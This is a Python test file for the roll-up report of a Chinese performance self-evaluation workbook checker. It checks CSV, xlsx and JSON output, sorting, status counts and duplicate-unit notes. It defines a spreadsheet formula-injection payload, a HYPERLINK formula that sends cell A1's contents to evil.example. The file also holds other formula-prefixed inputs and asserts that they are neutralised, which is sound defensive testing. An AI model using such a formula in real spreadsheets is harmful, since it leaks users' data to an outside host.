"""The roll-up (汇总.xlsx / .csv / .json) built from per-file summaries."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from jixiao.errors import EXIT_CLEAN, EXIT_ERRORS, EXIT_UNCHECKABLE, EXIT_WARNINGS
from jixiao.findings import Finding, Severity
from jixiao.report.rollup import Rollup, Summary, csv_safe, summarize
from jixiao.result import FileResult

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _rows() -> list[Summary]:
    return [
        Summary(file="b/乙.xlsx", unit="乙单位", self_total=90, review_total=88.5, grade="良", warnings=2,
                explained=1, exit_code=EXIT_WARNINGS, rules=[("WARN-05", "缺少偏差原因", "warning", 2)]),
        Summary(file="a.xlsx", unit=EVIL, self_total=95, review_total=91, grade="优", errors=1,
                exit_code=EXIT_ERRORS,
                rules=[("BDT-3", "三公经费合计", "error", 1), ("WARN-05", "缺少偏差原因", "warning", 3)]),
        Summary(file="c.xlsx", unit="+丙", review_total=55, grade="差"),
        Summary(file="坏.xlsx", unit="坏", exit_code=EXIT_UNCHECKABLE, failure_code="CORRUPT",
                failure_message="工作簿已损坏"),
    ]


def test_csv_safe() -> None:
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(text) == "'" + text
    assert csv_safe("单位") == "单位"
    assert csv_safe(-3.5) == -3.5  # numbers are numbers, not formulas


def test_rollup_files(tmp_path: Path) -> None:
    r = Rollup()
    for s in _rows():
        r.add(s)
    paths = r.write(tmp_path)
    assert [p.name for p in paths] == ["汇总.xlsx", "汇总.csv", "汇总.json"]
    assert r.exit_code == EXIT_UNCHECKABLE
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".~tmp-")]

    raw = (tmp_path / "汇总.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["单位", "文件", "自评总分", "复核总分", "等级", "错误数（强制）", "提示数", "信息数",
                       "已说明提示数", "状态", "备注"]
    assert [row[1] for row in rows[1:]] == ["a.xlsx", "b/乙.xlsx", "c.xlsx", "坏.xlsx"]  # sorted by file
    assert rows[1][0] == "'" + EVIL  # neutralised
    assert rows[3][0] == "'+丙"
    assert rows[1][2:] == ["95", "91", "优", "1", "0", "0", "0", "有错误", ""]
    assert rows[2][2:] == ["90", "88.5", "良", "0", "2", "0", "1", "有提示", ""]
    # could not be checked: no counts (blank, not 0: it must not sort with the clean files), 状态
    # one of four values for Excel's filter, the reason in 备注
    assert rows[4][1:] == ["坏.xlsx", "", "", "", "", "", "", "", "无法检查", "工作簿已损坏"]

    wb = load_workbook(tmp_path / "汇总.xlsx")
    assert wb.sheetnames == ["汇总", "按规则", "统计"]
    ws = wb["汇总"]
    assert ws["A2"].value == EVIL and ws["A2"].data_type == "s"  # text, not a live formula
    sheet_xml = zipfile.ZipFile(tmp_path / "汇总.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert [c.value for c in ws[3]] == ["乙单位", "b/乙.xlsx", 90, 88.5, "良", 0, 2, 0, 1, "有提示", None]
    assert [c.value for c in ws[5]] == ["坏", "坏.xlsx", None, None, None, None, None, None, None, "无法检查",
                                        "工作簿已损坏"]
    assert ws["J3"].fill.fgColor.rgb.endswith("FFF2CC")  # the status cell carries the status colour
    assert [c.value for c in wb["按规则"][1]] == ["规则", "规则名称", "严重程度", "涉及文件数", "命中次数"]
    by_rule = [[c.value for c in row] for row in wb["按规则"].iter_rows(min_row=2)]
    assert by_rule == [["WARN-05", "缺少偏差原因", "提示", 2, 5], ["BDT-3", "三公经费合计", "强制", 1, 1]]
    assert len(wb["统计"]._charts) == 2
    stats = {row[0].value: row[1].value for row in wb["统计"].iter_rows(min_row=2, max_row=6)}
    assert stats == {"优": 1, "良": 1, "中": 0, "差": 1, "未评级": 0}
    heads = [(r[0].value, r[1].value) for r in wb["统计"].iter_rows() if r[0].font.b]
    assert heads == [("等级", "文件数"), ("复核总分", "文件数"), ("状态", "文件数")]  # files, not units

    data = json.loads((tmp_path / "汇总.json").read_text(encoding="utf-8"))
    assert data["status_counts"] == {"通过": 1, "有提示": 1, "有错误": 1, "无法检查": 1}
    assert data["files"][0]["unit"] == EVIL  # JSON keeps the real text
    assert data["rules"][0] == {"rule": "WARN-05", "title": "缺少偏差原因", "severity": "提示", "files": 2, "hits": 5}
    broken = data["files"][3]
    assert (broken["file"], broken["status"], broken["failure_message"]) == ("坏.xlsx", "无法检查", "工作簿已损坏")
    assert [broken[k] for k in ("errors", "warnings", "infos", "explained")] == [None] * 4
    assert Summary.from_json(broken) == _rows()[3]  # the drop folder's state reads it back


def test_same_unit_in_two_files_is_noted(tmp_path: Path) -> None:
    r = Rollup()
    for s in (Summary(file="a/财政局.xlsx", unit="县财政局"), Summary(file="b/财政局（改）.xlsx", unit="县财政局",
                                                                 notes=["审核副本未能生成：磁盘已满"]),
              Summary(file="c/财政局.xlsx", unit="县财政局", exit_code=EXIT_UNCHECKABLE,
                      failure_code="CORRUPT", failure_message="工作簿已损坏"),  # no unit name read
              Summary(file="x/县财政局.xlsx", unit="县财政局", exit_code=EXIT_UNCHECKABLE, failure_code="CORRUPT",
                      failure_message="工作簿已损坏"),  # its stem stands in: not a unit name
              Summary(file="d.xlsx", unit="县教育局")):
        r.add(s)
    assert r.same_unit() == {"县财政局": ["a/财政局.xlsx", "b/财政局（改）.xlsx"]}
    r.write(tmp_path)
    rows = list(csv.reader(io.StringIO((tmp_path / "汇总.csv").read_bytes().decode("utf-8-sig"))))
    assert [(row[1], row[10]) for row in rows[1:]] == [
        ("a/财政局.xlsx", "同一单位另有文件：b/财政局（改）.xlsx"),
        ("b/财政局（改）.xlsx", "审核副本未能生成：磁盘已满；同一单位另有文件：a/财政局.xlsx"),
        ("c/财政局.xlsx", "工作簿已损坏"),
        ("d.xlsx", ""),
        ("x/县财政局.xlsx", "工作簿已损坏"),
    ]
    ws = load_workbook(tmp_path / "汇总.xlsx")["汇总"]
    assert ws["K2"].value == "同一单位另有文件：b/财政局（改）.xlsx"
    files = json.loads((tmp_path / "汇总.json").read_text(encoding="utf-8"))["files"]
    assert [f.get("same_unit_files") for f in files] == [["b/财政局（改）.xlsx"], ["a/财政局.xlsx"], None, None, None]


def test_a_unit_name_taken_from_the_file_name_is_said_and_never_a_duplicate(tmp_path: Path) -> None:
    """Two towns' 自评表.xlsx without a unit name in the workbook are not "the same unit"; names
    typed with a space apart are."""
    from jixiao.pipeline import check_file

    root = Path(__file__).resolve().parents[1] / "workbook_templates"
    blank = check_file(root / "附件二_部门整体支出绩效自评表_模板.xlsx")  # checked, no unit name in it
    r = Rollup()
    for rel in ("乡镇A/自评表.xlsx", "乡镇B/自评表.xlsx"):
        s = summarize(blank, rel)
        assert (s.unit, s.unit_from_file, s.to_json()["unit_from_file"]) == ("自评表", True, True)
        r.add(Summary.from_json(json.loads(json.dumps(s.to_json()))))  # as the drop folder's record keeps it
    r.add(Summary(file="c.xlsx", unit="衡山县 财政局"))
    r.add(Summary(file="d.xlsx", unit="衡山县财政局"))
    assert "unit_from_file" not in Summary(file="d.xlsx", unit="衡山县财政局").to_json()
    assert r.same_unit() == {"衡山县财政局": ["c.xlsx", "d.xlsx"]}
    r.write(tmp_path)
    rows = list(csv.reader(io.StringIO((tmp_path / "汇总.csv").read_bytes().decode("utf-8-sig"))))
    assert [(row[0], row[1], row[10]) for row in rows[1:]] == [
        ("衡山县 财政局", "c.xlsx", "同一单位另有文件：d.xlsx"),
        ("衡山县财政局", "d.xlsx", "同一单位另有文件：c.xlsx"),
        ("自评表", "乡镇A/自评表.xlsx", "工作簿中未找到单位名称，「单位」取自文件名"),
        ("自评表", "乡镇B/自评表.xlsx", "工作簿中未找到单位名称，「单位」取自文件名"),
    ]


def test_summarize_counts_and_rules() -> None:
    def f(rule: str, sev: Severity, explained: bool = False) -> Finding:
        return Finding(rule=rule, severity=sev, annex="附件二", sheet="附件二", cell="H14", message="m",
                       title=f"{rule} 标题", explained=explained)

    res = FileResult(path="x.xlsx", findings=[f("A-1", Severity.ERROR), f("W-1", Severity.WARNING),
                                              f("W-1", Severity.WARNING, True), f("I-1", Severity.INFO)])
    s = summarize(res, "x.xlsx")
    # 提示数 counts what the console and --format json count: the unexplained warnings only
    assert (s.errors, s.warnings, s.infos, s.explained, s.exit_code) == (1, 1, 1, 1, EXIT_ERRORS)
    assert sorted(s.rules) == [("A-1", "A-1 标题", "error", 1), ("I-1", "I-1 标题", "info", 1),
                               ("W-1", "W-1 标题", "warning", 2)]
    assert s.unit == "x"  # no model: the file name stands in
    assert Summary.from_json(json.loads(json.dumps(s.to_json()))) == s

    clean = summarize(FileResult(path="y.xlsx"), "y.xlsx")
    assert clean.exit_code == EXIT_CLEAN and clean.status == "通过"
